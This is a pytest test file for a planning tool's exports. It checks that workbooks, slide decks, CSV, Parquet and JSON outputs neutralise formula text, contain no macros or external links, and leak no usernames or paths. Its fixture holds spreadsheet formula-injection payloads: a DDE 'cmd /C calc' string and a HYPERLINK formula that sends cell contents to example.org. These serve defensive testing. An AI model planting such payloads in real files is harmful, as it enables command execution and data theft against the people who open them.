"""Nothing that leaves the program can run, reach out, or tell whose machine it came from: every format."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import duckdb
import openpyxl
import pytest
from pptx import Presentation

from data.formulatext import FORMULA_STARTS, unguarded
from workbook.__main__ import main

ROOT = Path(__file__).resolve().parents[2]
USER = "zoe-the-planner"
LINK = '=HYPERLINK("http://example.org/?"&A1,"click")'
HOSTILE = {
    "reason": LINK,
    "scenario": "@SUM(1+1)*cmd|' /C calc'!A0",
    "programme": "=Practical nursing",
    "provider": "-College of nursing",
    "credential": "+Diploma",
}
PATHS = re.compile(rb"file://|[A-Z]:\\\\?Users|/(?:home|Users|tmp|root|work)/\w")
Exports = dict[str, bytes]


@pytest.fixture(scope="module")
def exports(pack: Any, tmp_path_factory: pytest.TempPathFactory) -> tuple[Exports, Path]:
    """Export a plan full of text that a spreadsheet would run, by somebody whose name is known."""
    folder = tmp_path_factory.mktemp("exports")
    (folder / "scenarios.csv").write_text(
        "scenario,title,by,code,factor,reason,source\n"
        + _line("hostile", HOSTILE["scenario"], "all", "", "0.9", HOSTILE["reason"], "=us"),
        encoding="utf-8",
    )
    (folder / "list.csv").write_text(
        "Program Name,Provider,CIP Code,Credential,Cost,Weeks,Seats\n"
        + _line(HOSTILE["programme"], HOSTILE["provider"], "51.3801", HOSTILE["credential"], "900", "8", "7"),
        encoding="utf-8",
    )
    words = ["--region", "25980", "--date", "2025-06-30", "--scenario", "hostile", "--budget", "50000"]
    words += ["--scenarios", str(folder / "scenarios.csv"), "--programmes", str(folder / "list.csv")]
    override = ["--override", f"35-3031=Gateway:{HOSTILE['reason']}"]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("data.reference.pack.load_pack", lambda: pack)
        for name in ("USER", "LOGNAME", "USERNAME", "LNAME"):
            patch.setenv(name, USER)
        out = ["--out", str(folder / "plan.xlsx"), "--package", str(folder / "package"), "--shared"]
        assert main(["plan", *words, *override, *out]) == 0
        assert main(["deck", *words, "--shared", "--out", str(folder / "plan.pptx")]) == 0
    files = [folder / "plan.xlsx", folder / "plan.pptx", *sorted((folder / "package").iterdir())]
    return {path.name: path.read_bytes() for path in files}, folder


def _line(*cells: str) -> str:
    line = io.StringIO()
    csv.writer(line, lineterminator="\n").writerow(cells)
    return line.getvalue()


def parts(name: str, content: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield a file, and every part of an Office file, those of the workbooks behind charts too."""
    if not name.endswith((".xlsx", ".pptx")):
        yield name, content
        return
    with ZipFile(io.BytesIO(content)) as office:
        for part in office.namelist():
            yield from parts(f"{name}/{part}", office.read(part))


def every_part(exports: Any) -> Iterator[tuple[str, bytes]]:
    for name, content in exports[0].items():
        yield from parts(name, content)


def test_no_path_and_no_name_of_a_person(exports: Any) -> None:
    private = [str(exports[1]).encode(), str(ROOT).encode(), str(Path.home()).encode(), USER.encode()]
    for name, content in every_part(exports):
        assert not [one for one in private if one in content], name
        assert not PATHS.search(content), name


def test_no_macro_no_link_outside_and_no_picture_from_elsewhere(exports: Any) -> None:
    for name, content in every_part(exports):
        assert not re.search(r"vbaProject|externalLink|activeX|oleObject|\.bin$|customUI", name), name
        if name.endswith(".rels"):
            assert b'TargetMode="External"' not in content, name
        if name.endswith("[Content_Types].xml"):
            assert b"macroEnabled" not in content
            assert b"vbaProject" not in content
        if name.endswith(".xml"):
            assert b"r:link=" not in content, "a picture or object that lies elsewhere"


@pytest.mark.filterwarnings("ignore:.*extension is not supported")
def test_text_in_the_workbook_is_text(exports: Any) -> None:
    book = openpyxl.load_workbook(io.BytesIO(exports[0]["plan.xlsx"]))
    met = set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                text = cell.value
                if cell.data_type == "f":
                    assert "HYPERLINK" not in str(text), f"{sheet.title}!{cell.coordinate}"
                    assert "cmd|" not in str(text)
                elif isinstance(text, str) and text.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} turns live when it is edited"
                    met.add(text)
    assert {HOSTILE["programme"], HOSTILE["provider"], HOSTILE["credential"]} <= met


def test_text_in_csv_is_text_and_comes_back(exports: Any) -> None:
    """A cell that begins like a formula is a number; the planner's text is marked, and read back whole."""
    told = set()
    for name, content in exports[0].items():
        if not name.endswith(".csv"):
            continue
        for row in csv.reader(io.StringIO(content.decode())):
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    float(cell)
                told.add(unguarded(cell))
    assert {HOSTILE["programme"], HOSTILE["provider"], HOSTILE["credential"]} <= told


def test_parquet_and_json_keep_the_text_itself(exports: Any) -> None:
    folder = exports[1] / "package"
    with duckdb.connect() as connection:
        rows = connection.read_parquet(str(folder / "training_programmes.parquet")).df()
    assert HOSTILE["programme"] in set(rows["programme"])
    assert HOSTILE["provider"] in set(rows["provider"])
    described = json.loads(exports[0]["datapackage.json"])
    assert described["scenario"] == HOSTILE["scenario"]


def test_text_on_slides_is_text(exports: Any) -> None:
    deck = Presentation(io.BytesIO(exports[0]["plan.pptx"]))
    for name, content in parts("plan.pptx", exports[0]["plan.pptx"]):
        if "/xl/worksheets/" in name:
            assert b"<f>" not in content, "behind a chart stand figures, no formulas"
        assert b"hlinkClick" not in content, name
    assert deck.core_properties.author == deck.core_properties.last_modified_by == "Headway"
